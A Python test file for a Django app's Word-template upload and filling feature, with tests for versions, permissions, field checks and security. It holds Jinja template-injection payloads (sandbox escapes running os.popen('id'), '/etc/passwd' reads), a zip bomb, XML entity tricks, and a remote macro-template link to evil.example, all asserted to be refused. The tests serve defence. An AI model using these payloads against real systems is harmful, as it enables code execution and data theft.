"""Word templates: filled by the company's own words, checked at upload, and never more than a template."""

import pytest
from django.core.exceptions import ValidationError

from gendan.spine.documents import papering, press, wording
from gendan.spine.documents.papers.fields import all_fields, listed, shape
from gendan.spine.documents.tests.words import part_of, text_of, upload, with_part, word
from gendan.spine.refusal import NotAllowed, Refusal

GOOD = word(
    "致：{{ name }}", "编号 {{ number }}，合计 {{ total|money }} 元", "{{ company.name }}", header="{{ company.phone }}",
    rows=[("名称", "金额"), ("{%tr for line in lines %}", ""), ("{{ line.name }}", "{{ line.amount|money }}"), ("{%tr endfor %}", "")],
)


@pytest.fixture
def administrator(cast):
    return cast.fang


@pytest.fixture
def add(scene, sheet, administrator):
    def add(content, name="资料单.docx", actor=None, language="zh-hans"):
        return wording.add_template(
            sheet, language=language, upload=upload(content, name), actor=actor or administrator, now=scene.now
        )

    return add


def make(scene, **options):
    return papering.make(scene.customer, paper="tests.sheet", actor=scene.owner, now=scene.now, **options)


def refused(add, content, **options):
    with pytest.raises(ValidationError) as error:
        add(content, **options)
    return " ".join(error.value.message_dict["file"])


def test_a_paper_comes_out_by_the_companys_own_word_template(scene, add):
    template = add(GOOD)
    made = make(scene)
    text = text_of(papering.content_of(made, word=True))
    assert "致：华东精机 *有限* #公司" in text
    assert "合计 3,703,702.50 元" in text
    assert "宏远机械有限公司" in text
    assert "021-5555 0100" in text
    assert text.count("卷取机") == 3
    assert made.template == template
    assert papering.content_of(made).startswith(b"%PDF-")


def test_markup_in_a_value_stays_words(scene, add):
    add(GOOD)
    scene.customer.name = "<w:p/>A&B {{ number }} \x0b"
    scene.customer.save()
    assert "致：<w:p/>A&B {{ number }} " in text_of(papering.content_of(make(scene), word=True))


def test_a_new_template_is_the_next_version_and_papers_follow(scene, add):
    first = make(scene)
    assert not first.word
    add(GOOD)
    second = make(scene)
    add(word("{{ name }}"))
    third = make(scene)
    assert [made.version for made in (first, second, third)] == [1, 2, 3]
    assert [row.version for row in wording.templates_of("tests.sheet", language="zh-hans")] == [2, 1]
    assert "合计" in text_of(papering.content_of(second, word=True))


def test_an_earlier_version_is_taken_again_and_the_built_in_comes_back(scene, add, sheet, administrator):
    first, _second = add(GOOD), add(word("{{ name }}"))
    wording.take(first, paper=sheet, actor=administrator)
    assert wording.in_use("tests.sheet", language="zh-hans") == first
    wording.put_back(sheet, language="zh-hans", actor=administrator)
    assert wording.in_use("tests.sheet", language="zh-hans") is None
    assert not make(scene).word


def test_each_language_has_its_own_template(scene, add):
    add(word("Dear {{ name }}"), language="en")
    assert not make(scene).word
    assert make(scene, language="en").word


def test_only_administrators_settle_templates(scene, add, sheet):
    with pytest.raises(NotAllowed):
        add(GOOD, actor=scene.owner)
    template = add(GOOD)
    for act in (lambda: wording.take(template, paper=sheet, actor=scene.owner), lambda: wording.put_back(sheet, language="en", actor=scene.owner)):
        with pytest.raises(NotAllowed):
            act()


def test_unknown_fields_are_named_with_their_line(add):
    said = refused(add, word("致：{{ name }}", "", "电话 {{ custmer.phone }}", header="{{ compny }}"))
    assert "第 2 行“电话 {{ custmer.phone }}”：没有字段“custmer”" in said
    assert "页眉第 1 行“{{ compny }}”：没有字段“compny”" in said
    said = refused(add, word("{% for line in lines %}{{ line.price }}{% endfor %}{{ line.name }}{{ lines }}{% for a in name %}{% endfor %}"))
    for words in ("没有字段“line.price”", "没有字段“line”", "“lines”是一组字段", "“name”没有可重复的行"):
        assert words in said
    assert "第 1 行" in refused(add, word("{% if name %}没有结束"))


ATTACKS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ name.__class__ }}", "{{ name['__class__'] }}", "{{ name|attr('__class__') }}",
    "{{ self.__init__.__globals__ }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ lipsum.__globals__ }}",
    "{{ config }}", "{{ request }}", "{{ range(10**9)|list }}", "{% for a in range(999999999) %}x{% endfor %}", "{{ 'x' * 10**10 }}",
    "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "{{ name.format() }}",
    "{{ '%s'|format(name) }}", "{% set a = name %}", "{{ name|safe }}", "{{ lines[0].name }}", "{{ loop.__class__ }}", "{{ joiner() }}",
    "{% for line in lines %}{{ line.name.upper() }}{{ line.__dict__ }}{% endfor %}", "{{ (lines|map(attribute='__class__'))|list }}",
    "{% extends 'x' %}", "{{ namespace(a=1) }}", "{{ undefined_thing.a.b.c }}", "{{ name ~ name }}", "{% autoescape false %}{{ name }}{% endautoescape %}",
]


def test_a_template_that_asks_for_more_is_not_let_in(add, sheet):
    found = press.problems_of(word(*ATTACKS), fields=shape(all_fields(sheet)))
    assert {problem["line"] for problem in found} == set(range(1, len(ATTACKS) + 1))
    assert "第 1 行" in refused(add, word(ATTACKS[0]))


@pytest.mark.parametrize("attack", ATTACKS[:6] + ATTACKS[8:14:2])
def test_and_would_get_nothing_if_it_were(attack):
    """The sandbox holds also without the check at the door."""
    try:
        text = text_of(press.word(template=word(attack), data={"name": "甲", "lines": [{"name": "乙"}]}))
    except press.Misprint as error:
        text = str(error)
    assert not any(secret in text for secret in ("root:", "uid=", "<class", "subprocess", "built-in", "SimpleNamespace("))


def test_a_template_that_swells_is_ended():
    rows = "{% for a in lines %}" * 9 + "{{ a.name }}" + "{% endfor %}" * 9
    with pytest.raises(press.Misprint):
        press.word(template=word(rows), data={"lines": [{"name": "x" * 1000}] * 12})


@pytest.mark.parametrize(("change", "words"), [
    (lambda file: with_part(file, "word/vbaProject.bin", b"x"), "宏"),
    (lambda file: with_part(file, "word/activeX/activeX1.xml", b"<x/>"), "宏"),
    (lambda file: with_part(file, "word/embeddings/oleObject1.bin", b"x"), "宏"),
    (lambda file: with_part(file, "word/media/bomb.xml", b"0" * 30_000_000), "远超"),
    (lambda file: with_part(file, "word/extra.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "声明"),
    (lambda file: with_part(file, "word/extra.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")), "声明"),
    (lambda file: with_part(file, "word/_rels/settings.xml.rels", b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'), "别处"),
    (lambda file: with_part(file, "[Content_Types].xml", part_of(file, "[Content_Types].xml").replace(b"wordprocessingml.document.main", b"x.macroEnabled.main")), "宏"),
    (lambda file: b"%PDF-1.4", "内容"),
    (lambda file: b"", "内容"),
    (lambda file: b"PK\x03\x04" + b"\0" * 200, "内容"),
])
def test_a_file_that_is_more_than_a_word_file_is_refused(add, change, words):
    assert words in refused(add, change(GOOD))


@pytest.mark.parametrize("share", range(5, 100, 5))
def test_a_file_damaged_on_its_way_is_refused_and_breaks_nothing(add, share):
    at = len(GOOD) * share // 100
    damaged = GOOD[:at] + bytes(255 - byte for byte in GOOD[at:at + 40]) + GOOD[at + 40:]
    assert refused(add, damaged)


def test_a_file_with_macros_is_refused_by_its_name(add):
    assert "docx" in refused(add, GOOD, name="资料单.docm")


def test_a_link_to_a_page_is_let_in(add):
    rels = part_of(GOOD, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="r99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        b'Target="https://example.com" TargetMode="External"/></Relationships>',
    )
    assert add(with_part(GOOD, "word/_rels/document.xml.rels", rels)).in_use


def test_who_begins_gets_a_template_with_every_field(add, sheet, scene):
    begun = wording.beginning(sheet, language="zh-hans")
    text = text_of(begun)
    for entry in listed(all_fields(sheet)):
        assert entry.name in text
    add(begun)
    assert "华东精机" in text_of(papering.content_of(make(scene), word=True))


def test_a_template_that_no_longer_fits_says_who_can_help(scene, add, monkeypatch):
    template = add(GOOD)
    monkeypatch.setattr(press, "SECONDS", 0.001)
    with pytest.raises(Refusal) as refusal:
        wording.filled(template, {})
    assert "管理员" in str(refusal.value.who)
